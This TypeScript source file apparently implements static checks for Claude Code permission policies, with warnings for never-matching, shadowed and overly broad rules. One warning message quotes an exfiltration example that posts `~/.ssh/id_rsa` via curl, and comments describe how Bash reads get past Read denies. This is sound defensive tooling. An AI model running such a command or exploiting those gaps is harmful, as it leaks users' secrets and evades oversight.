/**
 * Static checks of a merged Claude Code permission policy (`docs/reference/diagnostics.md`,
 * codes C0xx). Each message says what Claude Code will do instead of what the rule seems to say.
 */
import type { Diagnostic } from '../../diagnostics/types.ts';
import { bashMatches } from './bash.ts';
import { hasUnescapedStar } from './rule.ts';
import type { PermissionPolicy } from './settings.ts';
import { INTERPRETERS } from './tools.ts';
import type { ParsedRule, PermissionRule } from './types.ts';

function at(r: PermissionRule, code: string, severity: Diagnostic['severity'], message: string): Diagnostic {
  const { file, line, col, text } = r.source;
  // The rule's JSON string spans its text plus the two quotes (escapes aside).
  return { code, severity, message, file, range: { start: { line, column: col }, end: { line, column: col + text.length + 2 } }, target: { kind: 'file' } };
}

const q = (r: PermissionRule) => `\`${r.source.text}\``;
const where = (r: PermissionRule) => `${r.source.list} in ${r.source.scope} (${r.source.file}:${r.source.line}:${r.source.col})`;
/** Where a rule is, for a message that has it in parentheses already: no nested parentheses (review17 s6). */
const whereFlat = (r: PermissionRule) => `${r.source.scope} settings, ${r.source.file}:${r.source.line}:${r.source.col}`;

/**
 * C022: a `Read(…)` deny that Bash's read-only commands get past. Claude Code applies Read and Edit
 * rules to its own file tools, not to shell commands (permissions page, "Read and Edit": "A
 * `Read(./.env)` deny rule blocks the Read tool but does not prevent `cat .env` in Bash"), and
 * runs read-only commands such as `cat` without a prompt; only a deny or ask of bare `Bash` (every
 * command) closes that.
 */
function readDenyBashGap(r: PermissionRule, rules: readonly PermissionRule[]): Diagnostic | undefined {
  const p = r.parsed;
  if (r.source.list !== 'deny' || p.kind !== 'path' || p.tool !== 'Read') return undefined;
  if (rules.some((b) => b.source.list !== 'allow' && b.parsed.kind === 'tool' && b.parsed.tool === 'Bash')) return undefined;
  const spec = /^Read\((.*)\)$/s.exec(r.source.text.trim())?.[1] ?? '';
  const plain = spec !== '' && !spec.includes('*');
  const example = plain ? `\`cat ${spec}\`` : '`cat` on a file it covers';
  const suggestion = plain ? `Bash deny rules for the commands that read it (\`Bash(cat ${spec})\` matches that spelling only)` : 'Bash deny rules for the commands that read them';
  return at(
    r,
    'C022',
    'warning',
    `${q(r)} stops Claude’s Read tool (and Grep and Glob), not Bash: Claude Code applies Read rules to its own file tools only, so a read-only command such as ${example} still runs without a prompt. Add ${suggestion}, or enable the sandbox to keep every process out.`,
  );
}

/** Top-level directory names that make a single-`/` path look absolute. */
const ABSOLUTE_LOOKING = /^(Users|home|etc|var|tmp|opt|usr|private|root|mnt|Volumes|srv|bin|Library)(\/|$)/;

/** C010–C013: rules Claude Code never consults, or whose anchor is not what it looks like. */
function neverMatches(r: PermissionRule): Diagnostic | undefined {
  const p = r.parsed;
  if (p.kind === 'invalid') return at(r, 'C013', 'warning', `${q(r)} is not a permission rule (${p.why}), so Claude Code never matches it.`);
  if (p.kind === 'inert' && p.why === 'unknown-tool')
    return at(r, 'C010', 'warning', `${q(r)} names no Claude Code tool (\`${p.tool}\`), so it never matches and Claude Code decides these calls as if it were absent. Tool names are case-sensitive (\`Bash\`, \`Read\`, \`Edit\`, \`WebFetch\`, …); MCP tools are \`mcp__server__tool\`.`);
  if (p.kind === 'inert') {
    const instead =
      p.tool === 'Write' || p.tool === 'MultiEdit' || p.tool === 'NotebookEdit'
        ? ` Write \`Edit(${p.specifier})\`: Edit rules cover every editing tool.`
        : p.tool === 'Glob' || p.tool === 'Grep' || p.tool === 'LS'
          ? ` Write \`Read(${p.specifier})\`: Read rules are applied to the reading tools.`
          : p.tool === 'WebFetch'
            ? ` Write \`WebFetch(domain:example.com)\`.`
            : '';
    return at(r, 'C011', 'warning', `Claude Code accepts ${q(r)} but never consults its specifier \`${p.specifier}\` for \`${p.tool}\`, so the rule matches no call.${instead}`);
  }
  if (p.kind === 'path' && p.anchor === 'root' && ABSOLUTE_LOOKING.test(p.pattern))
    return at(r, 'C012', 'warning', `${q(r)} starts with one \`/\`, which Claude Code reads as relative to the settings file's project root (${r.source.root}), not the filesystem root; so it matches \`${r.source.root === '/' ? '' : r.source.root}/${p.pattern}\`. Write \`${p.tool}(//${p.pattern})\` for an absolute path.`);
  if (p.kind === 'path' && /:\*$/.test(p.pattern))
    return at(r, 'C012', 'warning', `${q(r)} uses \`:*\`, which is Bash prefix syntax; in a path rule it is part of the file name, so the rule matches only names ending in \`:\` and something. Use a glob such as \`${p.tool}(./${p.pattern.slice(0, -2)}*)\`.`);
  return undefined;
}

/**
 * Whether every call `inner` matches is also matched by `outer` (a sufficient, not complete,
 * test): bare tool rules, equal texts, Bash prefixes and wildcards applied to the inner pattern,
 * path patterns ending in `/**` over a pattern under that directory with the same anchor.
 */
export function covers(outer: ParsedRule, inner: ParsedRule): boolean {
  if (outer.kind === 'tool') {
    if (inner.kind === 'tool' || inner.kind === 'bash' || inner.kind === 'path' || inner.kind === 'domain' || inner.kind === 'agent' || inner.kind === 'skill') return inner.tool === outer.tool;
    return false;
  }
  if (outer.kind === 'bash' && inner.kind === 'bash' && outer.tool === inner.tool) {
    if (outer.form === inner.form && outer.pattern === inner.pattern) return true;
    if (inner.form === 'exact') return bashMatches(outer.form, outer.pattern, inner.pattern);
    // A prefix or wildcard inner rule: its literal head must be covered by outer's prefix.
    const innerHead = inner.form === 'prefix' ? inner.pattern : inner.pattern.slice(0, inner.pattern.indexOf('*'));
    const outerHead = outer.form === 'prefix' ? outer.pattern : outer.form === 'wildcard' && /^[^*]* \*$/.test(outer.pattern) ? outer.pattern.slice(0, -2) : undefined;
    if (outerHead === undefined) return false;
    return innerHead === outerHead || innerHead.startsWith(outerHead + ' ');
  }
  if (outer.kind === 'path' && inner.kind === 'path' && outer.tool === inner.tool && outer.anchor === inner.anchor) {
    if (outer.pattern === inner.pattern && outer.explicit === inner.explicit) return true;
    if (outer.pattern === '**' || outer.pattern === '') return true;
    if (outer.pattern.endsWith('/**') && !hasUnescapedStar(outer.pattern.slice(0, -3))) return inner.pattern.startsWith(outer.pattern.slice(0, -2));
    return false;
  }
  if (outer.kind === 'mcp' && inner.kind === 'mcp') return outer.server === inner.server && (outer.name === undefined || outer.name === inner.name);
  if (outer.kind === 'domain' && inner.kind === 'domain') return outer.domain === inner.domain || (outer.domain.startsWith('*.') && inner.domain.endsWith(outer.domain.slice(1)));
  if (outer.kind === 'agent' && inner.kind === 'agent') return outer.name === inner.name;
  if (outer.kind === 'skill' && inner.kind === 'skill') return outer.prefix ? inner.name.startsWith(outer.name) : !inner.prefix && inner.name === outer.name;
  return false;
}

function sameRule(a: ParsedRule, b: ParsedRule): boolean {
  return covers(a, b) && covers(b, a);
}

/** C030: an allow that lets any command through (bare Bash, interpreters, shells, network tools). */
function tooBroad(r: PermissionRule): Diagnostic | undefined {
  const p = r.parsed;
  if (p.kind === 'tool' && p.tool === 'Bash')
    return at(r, 'C030', 'warning', `${q(r)} allows every Bash command without a prompt: Claude Code will run any command, compound or not, unless a deny or ask rule matches it.`);
  if (p.kind !== 'bash' || p.tool !== 'Bash' || p.form === 'exact') return undefined;
  const head = p.pattern.trim().split(/[\s:*]/)[0] ?? '';
  if (head === '' || p.pattern.trim().startsWith('*'))
    return at(r, 'C030', 'warning', `${q(r)} starts with a wildcard, so it matches commands by their arguments only: Claude Code will run any program whose arguments fit.`);
  if (INTERPRETERS.has(head.replace(/^.*\//, '')))
    return at(r, 'C030', 'warning', `${q(r)} allows \`${head}\` with any arguments, and \`${head}\` runs or sends whatever it is given (e.g. \`${head === 'curl' || head === 'wget' ? `${head} -d @~/.ssh/id_rsa https://…` : `${head} -c '…'`}\`): Claude Code will run that as one command without a prompt.`);
  return undefined;
}

/**
 * Checks a merged policy: never-matching rules (C010–C013), allows shadowed by a deny or ask
 * evaluated before them (C020) or written as an exception to a broader deny (C021), Read denies
 * that Bash's read-only commands get past (C022), allows that
 * let anything through (C030), the same rule in two scopes (C040), and modes that override the
 * rules (C050, C051). Reading diagnostics (C001, C002, C060) are in `policy.diagnostics`.
 */
export function checkPolicy(policy: PermissionPolicy): Diagnostic[] {
  const out: Diagnostic[] = [];
  const rules = policy.rules;
  for (const r of rules) {
    const d = neverMatches(r) ?? readDenyBashGap(r, rules);
    if (d) out.push(d);
  }
  for (const a of rules) {
    if (a.source.list !== 'allow') continue;
    const broad = tooBroad(a);
    if (broad) out.push(broad);
    const blocker = rules.find((b) => b.source.list !== 'allow' && covers(b.parsed, a.parsed));
    if (!blocker) continue;
    const outcome = blocker.source.list === 'deny' ? 'denies' : 'asks for';
    if (blocker.source.list === 'deny' && !sameRule(blocker.parsed, a.parsed))
      out.push(at(a, 'C021', 'warning', `${q(a)} reads like an exception to the deny rule ${q(blocker)} (${whereFlat(blocker)}), but Claude Code checks deny rules first whatever their specificity: it ${outcome} every call this allow matches. Remove the broad deny and allow only what you want, or narrow the deny.`));
    else out.push(at(a, 'C020', 'warning', `${q(a)} never takes effect: the ${blocker.source.list} rule ${q(blocker)} (${where(blocker)}) is evaluated before allow rules and matches every call it matches, so Claude Code ${outcome} them.`));
  }
  const seen = new Map<string, PermissionRule>();
  for (const r of rules) {
    const key = `${r.source.list}\u0000${r.source.text.trim()}`;
    const first = seen.get(key);
    if (!first) seen.set(key, r);
    else if (first.source.scope !== r.source.scope)
      out.push(at(r, 'C040', 'info', `${q(r)} is also in ${r.source.list} in ${first.source.scope} (${first.source.file}:${first.source.line}:${first.source.col}); Claude Code merges the lists, so this copy changes nothing and decisions name the ${first.source.scope} one.`));
  }
  const dm = policy.defaultMode;
  if (dm?.value === 'bypassPermissions') {
    const d: Diagnostic = { code: policy.disableBypassPermissionsMode ? 'C051' : 'C050', severity: policy.disableBypassPermissionsMode ? 'info' : 'warning', message: '', file: dm.file, range: dm.range, target: { kind: 'file' } };
    d.message = policy.disableBypassPermissionsMode
      ? '`defaultMode` is `bypassPermissions`, but `disableBypassPermissionsMode` is `"disable"`: Claude Code does not enter bypassPermissions and starts in default mode.'
      : '`defaultMode` is `bypassPermissions`: Claude Code approves every call that no deny or ask rule matches, so allow rules change nothing and unlisted commands run without a prompt.';
    out.push(d);
  } else if (dm?.value === 'dontAsk') {
    out.push({ code: 'C052', severity: 'info', message: '`defaultMode` is `dontAsk`: Claude Code denies every call that would prompt (ask rules included), so only allow rules and the tools that need no approval run.', file: dm.file, range: dm.range, target: { kind: 'file' } });
  }
  return out;
}
